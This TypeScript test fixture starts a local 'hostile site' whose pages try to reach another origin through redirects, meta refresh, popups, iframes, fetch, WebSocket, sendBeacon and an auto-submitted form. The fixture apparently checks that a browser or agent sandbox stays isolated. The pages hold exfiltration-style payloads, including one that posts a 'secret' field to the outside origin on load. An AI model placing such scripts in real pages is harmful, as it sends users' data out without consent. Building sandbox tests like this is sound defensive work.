import { createServer, type Server } from "node:http";

/**
 * An application on loopback whose pages try every way out to `other` (an origin such as
 * http://10.77.0.1:PORT): redirects and redirect chains, meta refresh, window.open on load, iframes,
 * images, fetch, WebSocket, sendBeacon, and a form posted on load.
 */
export interface HostileSite {
  url(path: string): string;
  /** Every page, by what it tries. */
  pages: string[];
  close(): Promise<void>;
}

export async function startHostileSite(other: string, names: string[] = []): Promise<HostileSite> {
  const targets = [other, ...names];
  const html = (body: string, head = "") =>
    `<!DOCTYPE html><html><head><title>hostile</title>${head}</head><body><h1>hostile</h1>${body}</body></html>`;
  const pages: Record<string, () => { status: number; headers: Record<string, string>; body: string }> = {
    "/redirect": () => ({ status: 302, headers: { location: `${other}/redirected` }, body: "" }),
    "/chain": () => ({ status: 302, headers: { location: "/redirect" }, body: "" }),
    "/meta": () => ({
      status: 200,
      headers: {},
      body: html("", `<meta http-equiv="refresh" content="0; url=${other}/meta">`),
    }),
    "/popup": () => ({
      status: 200,
      headers: {},
      body: html(`<script>window.open(${JSON.stringify(`${other}/popup`)});</script>`),
    }),
    "/iframe": () => ({
      status: 200,
      headers: {},
      body: html(targets.map((t) => `<iframe src="${t}/frame"></iframe>`).join("")),
    }),
    "/subresources": () => ({
      status: 200,
      headers: {},
      body: html(
        targets
          .map(
            (t) => `<img src="${t}/img.png"><script>
  fetch(${JSON.stringify(`${t}/fetch`)}, { mode: "no-cors" }).catch(() => {});
  try { new WebSocket(${JSON.stringify(`${t.replace(/^http/, "ws")}/ws`)}); } catch {}
  navigator.sendBeacon(${JSON.stringify(`${t}/beacon`)}, "x");
</script>`,
          )
          .join(""),
      ),
    }),
    "/form": () => ({
      status: 200,
      headers: {},
      body: html(
        `<form id="f" method="post" action="${other}/form"><input name="secret" value="s3cr3t"></form><script>document.getElementById("f").submit();</script>`,
      ),
    }),
  };
  const server: Server = createServer((req, res) => {
    const path = new URL(req.url ?? "/", "http://x").pathname;
    // The way in: a harmless page, so a run or an agent can open the application before the hostile ones.
    if (path === "/") {
      res.writeHead(200, { "content-type": "text/html" }).end(html(""));
      return;
    }
    const page = pages[path];
    if (!page) {
      res.writeHead(404).end();
      return;
    }
    const { status, headers, body } = page();
    res.writeHead(status, { "content-type": "text/html", ...headers }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()));
  const address = server.address();
  if (!address || typeof address === "string") throw new Error("no port");
  return {
    url: (path) => `http://127.0.0.1:${address.port}${path}`,
    pages: Object.keys(pages),
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
